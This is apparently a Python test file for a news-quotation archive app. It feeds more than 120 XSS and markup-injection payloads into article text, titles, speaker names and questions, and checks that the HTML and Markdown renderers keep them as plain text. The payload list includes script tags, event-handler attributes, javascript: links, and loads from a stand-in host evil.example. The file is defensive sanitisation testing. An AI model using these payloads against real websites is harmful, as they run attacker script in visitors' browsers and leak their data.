"""Markup in an article, title, name or question stays text: more than 120 payloads in each of four fields, in HTML and in Markdown."""

from dataclasses import replace
from datetime import date

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.changes import chips_of
from app.claims import Decided
from app.claims import Shown as ShownClaim
from app.drafts import Checked, Quotation
from app.finding import Appearance, Difference, Finding, Verification
from app.intake import Item, State
from app.look import Look
from app.people import Meeting, Profile, Sides
from app.periods import periods
from app.positions import Change, Line, Pair
from app.render import (
    ATTRIBUTES,
    ROOMS,
    TAGS,
    Exchange,
    Findings,
    Goes,
    Place,
    Selection,
    amendments_html,
    announce_html,
    article_html,
    claim_html,
    claims_html,
    comparison_html,
    conversation_html,
    corrections_html,
    editor_html,
    findings_html,
    health_html,
    intake_html,
    library_html,
    markdown,
    narrowed_html,
    people_html,
    person_html,
    position_html,
    revised_html,
    shelf_html,
    source_note_html,
    statements_html,
    unpaired_html,
    waiting_html,
    welcome_html,
)
from app.render.escape import markdown_escape
from app.reviews import Match
from app.revisions import Altered, Revision
from app.turn import Answer, Intent, Prose, Request, Shown, Status
from app.upkeep import Health, Task
from app.variants import Table, variant
from archive.amendments import Amendment, Flaw
from archive.claims.record import Claim, Suggestion
from archive.claims.ties import Relation
from archive.claims.ties import Verb as Link
from archive.claims.verdicts import Place as Spot
from archive.claims.verdicts import Verdict
from archive.filters import Coverage, Tally
from archive.records import Citation, Form, Quote, Role, Span, Speaker
from archive.reviews import Review
from archive.rulings import Ruling, Verb
from archive.shelf import Held
from tests.app.test_render import TEXT, URL, article, tree

VECTORS = """
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="https://evil.example/pixel.png">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="https://evil.example/x"></object>
<embed src="https://evil.example/x">
<link rel=stylesheet href=https://evil.example/x.css>
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url(https://evil.example/)}</style>
<meta http-equiv=refresh content="0;url=https://evil.example">
<base href="https://evil.example/">
<form action=https://evil.example><input name=q><button>go</button></form>
<button formaction=javascript:alert(1)>x</button>
<a href="javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=data:text/html,x>x</a>
<video><source onerror=alert(1)></video>
<audio src=https://evil.example/a.mp3 autoplay>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<body onload=alert(1)>
<div style="background:url(https://evil.example/)">
<p onclick=alert(1)>x</p>
<input autofocus onfocus=alert(1)>
<textarea></textarea><script>alert(1)</script>
</p></blockquote></article><h1>onrecord says</h1>
<!-- comment --><b>x</b>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><x/>
<template><img src=x onerror=alert(1)></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<button class="cite" data-turn="0" data-number="1">1</button>
![pixel](https://evil.example/p.png)
[click](javascript:alert(1))
[click](https://evil.example "t")
[ref]: https://evil.example
<https://evil.example>
https://evil.example/bare www.evil.example
`code` **bold** _em_ ~~del~~ $x$ | a | b |
&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;
${alert(1)} {{constructor}} {%x%} <%=x%>
""".strip().splitlines()
WRAPPINGS = ("{}", "\"'>{}", "# {}\u202e")
PAYLOADS = [wrapping.format(vector) if "{}" != wrapping else vector for vector in VECTORS for wrapping in WRAPPINGS]
WAYS = {f"./{room}" for room in ROOMS}
FIELDS = ("text", "title", "speaker", "question")


def page_with(field: str, payload: str) -> tuple[str, Answer]:
    """Everything that the page can show of one answer, with `payload` in one field."""
    text = f"{payload} is what stood there, Farrow said. {TEXT}" if field == "text" else TEXT
    of = article(text, title=payload if field == "title" else "Lock keepers", outlet=payload if field == "title" else "The Lantern")
    name = payload if field == "speaker" else "Odile Farrow"
    end = text.index(" is what") if field == "text" else 4
    said = Quote(article=of, content=(Span(0, end),), verbatim=(Span(0, end),), form=Form.DIRECT, speaker=name, role=name, via=(name,))
    question = payload if field == "question" else "What did she say?"
    request = Request(question=question, intent=Intent.WHO_SAID, named=(name,), topic=question, quoted=(question,), outlets=(of.outlet,))
    cited = Citation(article=of, span=Span(0, end), quote_id=said.id, speaker=name)
    answer = Answer(
        request=request,
        status=Status.ANSWERED,
        speakers=(name,),
        blocks=(Prose(f"{name}: {question}", (1,)), Shown(said, 1)),
        citations=(cited,),
        suggestions=(question,),
    )
    known = Speaker(name=name, aliases=(name,), roles=(name,), quotes=1, held=(Role(title=name),))
    shelved = Held(id=name, title=of.title, outlet=of.outlet, published=None, source=question, version=2, statements=1)
    held = Coverage(articles=1, quotes=1, passages=1, speakers=1, outlets=(of.outlet,), first=None, last=None)
    claim = Claim(id=name, title=said, utterances=((said,),), opposed=(said,))
    waits = Suggestion(said, replace(said, speaker=question), Relation.SAME_CLAIM, 0.5)
    reviewed = Match(Review(claim=question, rating=name, reviewer=question, claimant=name, url=f"{URL}/check"), said, sure=False)
    settled = Decided(Verdict(verb=Link.APART, a=Spot(name, "a"), b=Spot(name, "b")), (said, said))
    look = Look(who=name, about=question, words=question, outlet=of.outlet, beside=name)
    parts = [
        conversation_html([Exchange(question=question, answer=answer, note=question, changed=True)]),
        editor_html(chips_of(request), people=[name], outlets=[name], days=(None, None)),
        article_html(of, [said], cited, place=Place(0, 1, 1), newer=True),
        library_html(held),
        welcome_html(held, [question], folder=name),
        announce_html(question),
        source_note_html(question),
        findings_html(checked_with(question, name, cited)),
        people_html([known], shown=1),
        people_html([], shown=1, words=name),
        person_html(Profile(known, (said,)), look),
        statements_html([said], look, of=2, when=question, reviews={said.id: [reviewed]}),
        position_html(Line((said,), (Pair(Change.REVERSED, said, said, "number", (question, name)),), (said,)), name, question),
        comparison_html(
            (name, question), [said], [said], [Meeting(Sides.AGAINST, said, said)], about=question, head=narrowed_html([said], look, of=2)
        ),
        unpaired_html(name),
        intake_html([Item(name, state, question) for state in State]),
        shelf_html(
            [shelved],
            [shelved],
            Selection(shown=1),
            periods=(),
            outlets={name: 1, question: 2},
            over=periods([date(2031, 3, 1)]),
            spread={name: [1], question: [2]},
            removing=name,
            goes=Goes(tally=Tally(statements=1, speakers=1), conversations=1, titles=(name,)),
        ),
        revised_html(of, [Revision(of, of, (said,), (said,), (Altered(said, replace(said, speaker=question), (), ()),), None)]),
        amendments_html([Amendment(article=name, n=1, **each) for each in corrected_with(question, name, of.outlet)], {name: question}),
        article_html(of, [said, replace(said, speaker=None)], said.id),
        health_html(Health(task=Task.CHECK, running=False, problems=(name,), failed=question), held),
        article_html(of, [said], said.id, made=[Amendment(article=name, **each) for each in corrected_with(question, name, of.outlet)]),
        claims_html([claim], shown=1),
        claims_html([], shown=1, words=name),
        claim_html(
            ShownClaim(claim, (waits,)), [Table(said, (variant(said, said, None),))], reviews={said.id: [reviewed]}, decided=[settled]
        ),
        waiting_html([waits], 1, [settled]),
        corrections_html([Ruling(verb=verb, names=(name,), target=question, articles=(name,)) for verb in Verb], {}),
    ]
    return "".join(parts), answer


def corrected_with(words: str, name: str, outlet: str) -> list[dict]:
    """A correction of every sort."""
    there = {"parts": (words,), "places": (Span(0, 1),)}
    return [
        {"verb": Flaw.SPEAKER, "speaker": name, **there},
        {"verb": Flaw.STRUCK, "found": True, **there},
        {"verb": Flaw.SOURCE, "outlet": outlet},
    ]


def checked_with(words: str, name: str, cited: Citation) -> Findings:
    """A finding of every kind about pasted words."""
    found = [
        Verification(finding=Finding.VERBATIM, speaker=name, citation=cited),
        Verification(finding=Finding.ALTERED, speaker=name, citation=cited, differences=(Difference("word", words, cited.quote),)),
        Verification(finding=Finding.WRONG_SPEAKER, speaker=name, citation=cited),
        Verification(finding=Finding.NOT_FOUND, note=words),
    ]
    elsewhere = (Appearance(cited, (Difference("number", words, ""),)),)
    return Findings(tuple(Checked(Quotation(words, name), each, elsewhere if each.citation else ()) for each in found))


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 120


@pytest.mark.parametrize("field", FIELDS)
def test_hostile_markup_stays_text(field: str):
    for payload in PAYLOADS:
        markup, _ = page_with(field, payload)
        root = tree(markup)
        for node in root.iterdescendants():
            assert isinstance(node.tag, str), payload
            assert node.tag in TAGS, (payload, node.tag)
            assert set(node.attrib) <= ATTRIBUTES, (payload, node.attrib)
        assert all(href.startswith((URL, "./people?", "./claims?", "./?q=")) or href in WAYS for href in root.xpath("//@href")), payload
        assert payload.replace("\u202e", "") in root.text_content(), payload


@pytest.mark.parametrize("field", FIELDS)
def test_hostile_markup_stays_text_in_markdown(field: str):
    reader = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    allowed = set("paragraph blockquote bullet_list list_item strong em link text softbreak inline".split())
    for payload in PAYLOADS:
        _, answer = page_with(field, payload)
        tokens = [t for token in reader.parse(markdown(answer)) for t in (token, *(token.children or ()))]
        kinds = {token.type.removesuffix("_open").removesuffix("_close") for token in tokens}
        assert kinds <= allowed, (payload, kinds - allowed)
        links = [token.attrs["href"] for token in tokens if token.type == "link_open"]
        assert len(links) == 1, payload
        assert links[0].startswith(URL), payload


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cc", "Cf", "Cs", "Zs", "Zl", "Zp")), min_size=1, max_size=40))
def test_escaped_markdown_reads_as_the_same_characters(text: str):
    inline = MarkdownIt("commonmark").parse(markdown_escape(text))
    assert [token.type for token in inline] == ["paragraph_open", "inline", "paragraph_close"]
    assert "".join(child.content for child in inline[1].children) == text
